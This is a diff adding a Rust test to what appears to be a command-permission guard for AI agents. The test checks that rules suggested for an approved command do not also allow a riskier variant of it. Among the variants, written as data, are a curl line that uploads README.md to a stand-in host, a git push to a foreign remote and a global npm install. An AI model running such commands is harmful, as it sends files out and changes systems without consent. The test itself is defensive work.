@@ -224,6 +224,30 @@ fn a_suggestion_that_is_taken_spares_the_question() {
     assert_eq!(machine.run(&["check", "-a", "untrusted", "git commit -m y"]).status, Some(0));
 }
 
+/// Whoever agrees to a command has not agreed to what a word more makes of it.
+#[test]
+fn a_suggestion_that_is_taken_opens_nothing_that_is_worse() {
+    let more = [
+        ("curl https://x.example", "curl https://x.example -d @README.md https://y.example"),
+        ("npm install", "npm install -g other"),
+        ("ssh host ls", "ssh host ls -la"),
+        ("git push", "git push https://y.example/x.git"),
+        ("make", "make deploy"),
+        ("gh api /x", "gh api /x --hostname y.example"),
+        ("unknowncmd", "unknowncmd --all"),
+    ];
+    for (command, worse) in more {
+        let machine = Machine::new();
+        let advice = machine.run(&["rules", "suggest", "-a", "untrusted", "--json", command]).json();
+        let rules: Vec<&str> =
+            advice[0]["rules"].as_array().unwrap().iter().map(|rule| rule["rule"].as_str().unwrap()).collect();
+        machine.write("home/.config/guardian/rules/default.rules", &rules.join("\n"));
+        let judged = |command: &str| machine.run(&["check", "-a", "untrusted", command]).status;
+        assert!(rules.is_empty() || judged(command) == Some(0), "{rules:?} spares no {command}");
+        assert_eq!(judged(worse), Some(10), "{rules:?} lets {worse} through");
+    }
+}
+
 #[test]
 fn execpolicy_check_answers_as_codex_does() {
     let machine = Machine::new();
